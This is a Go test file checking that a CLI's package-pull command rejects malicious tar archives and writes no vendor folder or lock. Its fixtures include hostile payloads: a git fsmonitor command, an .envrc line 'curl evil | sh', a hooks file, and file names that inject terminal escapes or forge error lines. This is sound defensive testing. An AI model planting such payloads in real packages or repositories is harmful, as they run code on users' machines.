package cli_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dsctl/dsctl/contracts/registry"
)

// entry is one tar entry of a hand-made package archive.
type entry struct {
	name string
	typ  byte
	body string
}

// handArchive writes a gzipped tar of entries, in the order given, the way an
// attacker would: no checks.
func handArchive(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var raw bytes.Buffer
	tw := tar.NewWriter(&raw)
	var patch []int // offsets of headers whose name's last byte becomes '/'
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		name, format := e.name, tar.FormatPAX
		if typ == tar.TypeReg && strings.HasSuffix(name, "/") {
			// Go's writer refuses a file named "x/"; write "x_" and patch it.
			name, format = strings.TrimSuffix(name, "/")+"_", tar.FormatUSTAR
			tw.Flush()
			patch = append(patch, raw.Len())
		}
		hdr := &tar.Header{Name: name, Typeflag: typ, Mode: 0o644, Format: format}
		if typ == tar.TypeReg {
			hdr.Size = int64(len(e.body))
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			tw.Write([]byte(e.body))
		}
	}
	tw.Close()
	b := raw.Bytes()
	for _, off := range patch {
		h := b[off : off+512]
		h[bytes.IndexByte(h[:100], 0)-1] = '/'
		copy(h[148:156], "        ")
		sum := 0
		for _, c := range h {
			sum += int(c)
		}
		copy(h[148:156], fmt.Sprintf("%06o\x00 ", sum))
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}

// pushRaw publishes archive as name@version into the layout store dir,
// bypassing every check publish makes (as a hostile registry would serve it).
func pushRaw(t *testing.T, dir, name, version string, archive []byte) {
	t.Helper()
	st, err := registry.Open(dir, registry.Options{})
	if err != nil {
		t.Fatal(err)
	}
	cfg := []byte(`{"name":"` + name + `","version":"` + version + `"}`)
	if _, err := st.Push(context.Background(), registry.Package{Name: name, Version: version, Archive: archive, Config: cfg}); err != nil {
		t.Fatal(err)
	}
}

const okContractYAML = "apiVersion: dsctl.dev/v1\nname: evil\nversion: 1.0.0\n"

// TestPullRefusesWhatPackNeverWrites: issue 13 items 1 and 12. A pulled
// archive is accepted only if Pack could have written it; anything else is an
// input error (exit 2) naming the entry, and nothing is written: no vendor
// folder, no lock. Each case was accepted (and unpacked) before.
func TestPullRefusesWhatPackNeverWrites(t *testing.T) {
	cy := entry{name: "contract.yaml", body: okContractYAML}
	cases := []struct {
		name    string
		entries []entry
		want    string // in stderr
	}{
		{"git-fsmonitor", []entry{{name: ".git/config", body: "[core]\n\tfsmonitor = \"touch /tmp/pwned\"\n"}, cy}, `".git/config"`},
		{"hidden-nested", []entry{cy, {name: "events/.hooks/post-checkout", body: "x"}}, `"events/.hooks/post-checkout"`},
		{"dotfile", []entry{{name: ".envrc", body: "curl evil | sh"}, cy}, `".envrc"`},
		{"no-contract-yaml", []entry{{name: "events/a.json", body: "{}"}}, "no contract.yaml"},
		{"file-named-folder", []entry{cy, {name: "events/", body: "x"}}, `"events/"`},
		{"folder-entry", []entry{cy, {name: "events", typ: tar.TypeDir}}, `"events"`},
		{"escape-in-name", []entry{cy, {name: "a\x1b]0;pwned\x07.json", body: "{}"}}, `"a\x1b]0;pwned\a.json"`},
		{"newline-in-name", []entry{cy, {name: "a\nerror: fake.json", body: "{}"}}, `"a\nerror: fake.json"`},
		{"out-of-order", []entry{cy, {name: "b.json", body: "{}"}, {name: "a.json", body: "{}"}}, "out of order"},
		{"invalid-utf8", []entry{cy, {name: "a\xff.json", body: "{}"}}, "UTF-8"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			work := t.TempDir()
			store := filepath.Join(work, "store")
			pushRaw(t, store, "evil", "1.0.0", handArchive(t, c.entries...))
			code, out := dsctlIn(t, work, "contract", "pull", "evil@1.0.0", "--registry", store)
			if code != 2 {
				t.Errorf("exit %d, want 2\n%s", code, out)
			}
			if !strings.HasPrefix(out, "error: ") || !strings.Contains(out, c.want) {
				t.Errorf("output does not name the entry (%s):\n%s", c.want, out)
			}
			if strings.ContainsAny(out, "\x1b\x07") || strings.Count(strings.TrimSpace(out), "\n") > 1 {
				t.Errorf("output carries control characters or extra lines:\n%q", out)
			}
			for _, p := range []string{"contracts/vendor/evil", "dsctl.lock"} {
				if _, err := os.Stat(filepath.Join(work, p)); err == nil {
					t.Errorf("%s was written", p)
				}
			}
		})
	}
}
